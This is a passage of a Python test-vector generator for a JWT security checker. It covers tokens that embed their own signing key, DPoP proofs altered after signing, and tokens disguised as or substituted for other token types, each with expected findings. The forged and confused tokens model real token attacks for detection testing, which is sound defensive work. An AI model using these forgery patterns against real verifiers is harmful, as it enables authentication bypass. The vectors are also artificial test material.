      "valid", PUBLISHED, absent="HDR-X5T")

# ---- keys that protocols have their tokens carry

# Protocols whose tokens carry their key: what else the examiner has was not meant for them.
UNRELATED = pub("house-rsa", kid=None)
THUMB = thumbprint("idp")


def carries(typ, claims, key="idp", **head):
    """Signed with the key that it carries."""
    return Token({"typ": typ, "alg": "RS256", **head, "jwk": pub(key, kid=None)}, claims, key)


def dpop():
    return carries("dpop+jwt", {"jti": uti("dpop"), "htm": "GET", "htu": "https://api.corp.example/pay", "iat": at(JUNE)})


DESIGNS = (
    ("dpop", "A DPoP proof (RFC 9449)", dpop),
    ("acme", "A request to a certificate authority (RFC 8555 section 6.2)",
     lambda: Token({"alg": "RS256", "nonce": "6S8IqOGY7eL2lsGoTZYifg", "url": "https://ca.example/acme/new-account",
                    "jwk": pub("idp", kid=None)}, b'{"termsOfServiceAgreed":true}', "idp", wrap=flattened)),
    ("kb", "A holder's proof (RFC 9901 section 4.3) that carries its key",
     lambda: carries("kb+jwt", {"iat": at(JUNE), "aud": "https://verifier.example", "nonce": "n-0S6",
                                "sd_hash": b64url(hashlib.sha256(b"presented").digest())})),
    ("wallet", "A wallet's proof, which names its client",
     lambda: carries("openid4vci-proof+jwt", {"iss": "wallet", "aud": "https://issuer.example", "iat": at(JUNE), "nonce": "n-0S6"})),
    ("wallet-type", "The same with its media type in full",
     lambda: carries("application/openid4vci-proof+jwt", {"aud": "https://issuer.example", "iat": at(JUNE), "nonce": "n-0S6"})),
    ("self", "A self-issued ID token: issuer and subject are the key's thumbprint",
     lambda: carries("JWT", {**CLAIMS, "iss": THUMB, "sub": THUMB, "nonce": "n-0S6"})),
    ("self-urn", "The same with the thumbprint as a URN (RFC 9278)",
     lambda: carries("JWT", {**CLAIMS, "iss": f"urn:ietf:params:oauth:jwk-thumbprint:sha-256:{THUMB}",
                             "sub": f"urn:ietf:params:oauth:jwk-thumbprint:sha-256:{THUMB}", "nonce": "n-0S6"})),
)
for case, about, token in DESIGNS:
    given(f"hdr/hdr-jwk-{case}-near", f"{about} carries its key by design: a note", token(), "unverified", signature="unverified", found="HDR-JWK",
          opinion="")
    given(f"hdr/hdr-jwk-{case}-given-near", f"{about}, and a key was given that is not meant for it", token(), "unverified", UNRELATED,
          signature="unverified", found="HDR-JWK", absent="SIG-BAD", unknown="SIG-BAD", opinion="")
given("hdr/hdr-jwk-several-given-near", "A DPoP proof, and several keys were given, of which one is that of an issuer", dpop(), "unverified", UNRELATED,
      pub("ent-unlisted", issuer=HOUSE, x5c=None), pub("house-p256"), signature="unverified", found="HDR-JWK", absent="SIG-BAD", unknown="SIG-BAD", opinion="")
given("hdr/hdr-jwk-kid-given-near", "A DPoP proof with a kid of its client's, which a key of a server has too",
      carries("dpop+jwt", {"jti": uti("dpop"), "htm": "GET", "htu": "https://api.corp.example/pay", "iat": at(JUNE)}, kid="1"), "unverified",
      pub("house-rsa", kid="1", issuer=HOUSE), signature="unverified", found="HDR-JWK", absent="SIG-BAD", opinion="")
def altered_dpop(alg, role, **members):
    """A proof of another request than it was signed for."""
    body = {"jti": uti("dpop"), "htm": "GET", "htu": "https://api.corp.example/pay", "iat": at(JUNE)}
    return Token({"typ": "dpop+jwt", "alg": alg, "jwk": pub(role, kid=None)}, body, role, edited={**body, "htu": "https://api.corp.example/refund"}, **members)


for alg, role in (("ES256", "house-p256"), ("RS256", "house-rsa"), ("PS256", "house-rsa"), ("EdDSA", "house-ed25519")):
    given(f"sig/sig-bad-dpop-{alg.lower()}-found", "A DPoP proof that was altered: its own key says so (RFC 9449 section 4.3)", altered_dpop(alg, role), "invalid",
          pub("house-p384"), signature="unverified", found="SIG-BAD")
given("sig/sig-bad-dpop-cut-near", "A DPoP proof that was cut", Token({"typ": "dpop+jwt", "alg": "RS256", "jwk": pub("house-rsa", kid=None)}, {
    "jti": uti("dpop"), "htm": "GET", "htu": "https://api.corp.example/pay", "iat": at(JUNE)}, "house-rsa", wrap=lambda text: text[:-90]), "unverified",
      pub("house-p384"), signature=None, absent="SIG-BAD")
given("hdr/hdr-jwk-own-given-near", "A DPoP proof, and its own key was given", dpop(), "valid", UNRELATED, pub("idp"), absent="HDR-JWK SIG-BAD")
given("hdr/hdr-jwk-posing-found", "A company's token dressed as a request to a certificate authority: it names an issuer, and is held to its key",
      carries("JWT", CLAIMS, nonce="6S8IqOGY7eL2lsGoTZYifg", url="https://ca.example/acme/new-account"), "invalid", UNRELATED, signature="failed",
      found="HDR-JWK SIG-BAD")
given("hdr/hdr-jwk-holder-posing-found", "A company's token dressed as a holder's proof", carries("kb+jwt", CLAIMS), "invalid", UNRELATED,
      signature="failed", found="HDR-JWK SIG-BAD")
given("hdr/hdr-jwk-wallet-posing-found", "A wallet's proof that names an issuer whose key is known, and is not that",
      carries("openid4vci-proof+jwt", CLAIMS), "invalid", {**UNRELATED, "issuer": HOUSE}, signature="failed", found="HDR-JWK SIG-BAD")
given("hdr/hdr-jwk-edited-clear", "A DPoP proof that was changed: nothing verifies it, neither its own key nor the one that was given",
      Token({"typ": "dpop+jwt", "alg": "RS256", "jwk": pub("idp", kid=None)},
            {"jti": uti("dpop"), "htm": "GET", "htu": "https://api.corp.example/pay", "iat": at(JUNE)}, "idp",
            edited={"jti": uti("dpop"), "htm": "POST", "htu": "https://api.corp.example/pay", "iat": at(JUNE)}), "invalid", UNRELATED,
      signature="failed", found="SIG-BAD", absent="HDR-JWK")
given("hdr/hdr-x5c-client-given-near", "A client that speaks for itself shows its certificate, and a key was given that is not meant for it",
      house("ent-unlisted", "RS256", head={"kid": None, **OWN_X5C}, iss="robin", sub="robin"), "unverified", UNRELATED, signature="unverified",
      found="HDR-X5C", absent="SIG-BAD", unknown="SIG-BAD", opinion="")
given("hdr/hdr-x5c-receipt-given-near", "A store's receipt, which names no issuer, and a key was given that is not meant for it",
      Token({"alg": "RS256", **OWN_X5C}, {"bundleId": "com.example.pay", "transactionId": "1"}, "ent-unlisted"), "unverified", UNRELATED,
      signature="unverified", found="HDR-X5C", absent="SIG-BAD", unknown="SIG-BAD", opinion="")
given("hdr/hdr-x5c-given-found", "The certificate of somebody under a company's name, and a key was given for it",
      house("ent-unlisted", "RS256", head={"kid": None, **OWN_X5C}), "invalid", UNRELATED, signature="failed", found="HDR-X5C SIG-BAD")


# ---- typ

EVENT = {"http://schemas.openid.net/event/backchannel-logout": {}}


def sent_as(words):
    return lambda text: words + text


def typed(media, sent="", **claims):
    """A company's token of a type, sent under a name."""
    return house("house-rsa", "RS256", head={"typ": media}, wrap=sent_as(sent), **claims)


BEARER, DPOP = "Authorization: Bearer ", "Authorization: DPoP "
ODD = (
    ("logout-as-access", "A logout token in the place of an access token", typed("logout+jwt", BEARER, events=EVENT)),
    ("logout-unnamed-as-access", "The same, and only its event says what it is", typed("JWT", BEARER, events=EVENT)),
    ("logout-as-id", "A logout token in the place of an ID token", typed("JWT", "id_token=", events=EVENT)),
    ("logout-as-client", "A logout token in the place of a client's assertion", typed("JWT", "client_assertion=", events=EVENT)),
    ("logout-nonce", "A logout token with a nonce, as an ID token has one", typed("logout+jwt", events=EVENT, nonce="n-0S6")),
    ("logout-no-event", "A type of logout tokens, and no event", typed("logout+jwt")),
    ("no-logout", "Something else in the place of a logout token", typed("JWT", "logout_token=")),
    ("event", "A type of security events, and no events", typed("application/secevent+jwt")),
    ("event-as-access", "A security event in the place of an access token", typed("secevent+jwt", BEARER, events={"urn:example:event": {}})),
    ("request-as-access", "A request object in the place of an access token", typed("oauth-authz-req+jwt", BEARER)),
    ("access-as-id", "An access token in the place of an ID token", typed("at+jwt", "id_token=")),
    ("access-digest", "An access token that holds the digest of one", typed("at+jwt", at_hash="77QmUPtjPfzWtF2AnpK9RQ")),
    ("proof", "A type of DPoP proofs, and none of what they hold", typed("dpop+jwt")),
    ("no-proof", "Something else in the place of a DPoP proof", typed("JWT", "DPoP: ")),
    ("proof-as-access", "A DPoP proof in the place of an access token",
     carries("dpop+jwt", {"jti": uti("dpop"), "htm": "GET", "htu": "https://api.corp.example/pay", "iat": at(JUNE)}, "house-rsa",
             kid="house-2026")),
    ("proof-untyped", "A DPoP proof under another type",
     carries("JWT", {**CLAIMS, "htm": "GET", "htu": "https://api.corp.example/pay"}, "house-rsa", kid="house-2026")),
    ("refresh", "A refresh token of Keycloak in the place of an access token", typed("JWT", BEARER, typ="Refresh")),
    ("bearer-as-id", "An access token of Keycloak in the place of an ID token", typed("JWT", "id_token=", typ="Bearer")),
    ("use-as-id", "An access token of Cognito in the place of an ID token", typed("JWT", "id_token=", token_use="access")),
    ("number", "A type that is no text", typed(7)),
)
for case, about, token in ODD:
    if case == "proof-as-access":
        token.wrap = sent_as(BEARER)
    given(f"hdr/hdr-typ-{case}-found", about, token, "valid", KEY, found="HDR-TYP")
vector("hdr/hdr-typ-entra-id-found", "An ID token of Entra in the place of an access token", id_v2(JUNE, "ent-current", wrap=sent_as(BEARER)), "valid",
       found="HDR-TYP", absent="MS-IDTYP")
vector("hdr/hdr-typ-entra-access-found", "An access token of Entra in the place of an ID token",
       v2(JUNE, "ent-current", wrap=lambda text: json.dumps({"token_type": "Bearer", "id_token": text})), "valid", found="HDR-TYP")
EVEN = (
    ("access", "An access token in its place", typed("at+jwt", BEARER)),
    ("access-dpop", "An access token that is bound to a key, in its place", typed("application/at+jwt", DPOP)),
    ("access-bound", "An access token in a response", typed("at+jwt", '"access_token": ')),
    ("untyped", "A token that says nothing of its type", typed(None, BEARER)),
    ("plain", "A token that says only that it is one", typed("JWT", "id_token=")),
    ("logout", "A logout token in its place", typed("logout+jwt", "logout_token=", events=EVENT)),
    ("logout-untyped", "A logout token of a provider that gives it no type", typed("JWT", "logout_token=", events=EVENT)),
    ("other", "A type that nobody registered", typed("payroll+jwt", BEARER)),
    ("client", "A client's assertion in its place",
     typed("client-authentication+jwt", "client_assertion=", iss="robin", aud="https://login.corp.example/oauth2/token")),
    ("federated", "Another provider's token as a client's assertion, as workloads send it", typed("JWT", "client_assertion=", token_use="id")),
    ("keycloak", "An access token of Keycloak in its place", typed("JWT", BEARER, typ="Bearer")),
    ("cookie", "An ID token in a cookie", typed("JWT", "Cookie: id_token=", nonce="n-0S6", scope=None)),
)
for case, about, token in EVEN:
    given(f"hdr/hdr-typ-{case}-{'clear' if case == 'access' else 'near'}", about, token, "valid", KEY, absent="HDR-TYP")
given("hdr/hdr-typ-id-as-access-near", "An ID token sent to an API that is made to take one: a note",
      typed("JWT", BEARER, nonce="n-0S6", scope=None), "valid", KEY, found="HDR-TYP")
given("hdr/hdr-typ-proof-issuer-near", "A DPoP proof that names an issuer, as some clients write it",
      carries("dpop+jwt", {**CLAIMS, "htm": "GET", "htu": "https://api.corp.example/pay"}, "house-rsa", kid="house-2026"), "valid", KEY,
      absent="HDR-TYP")
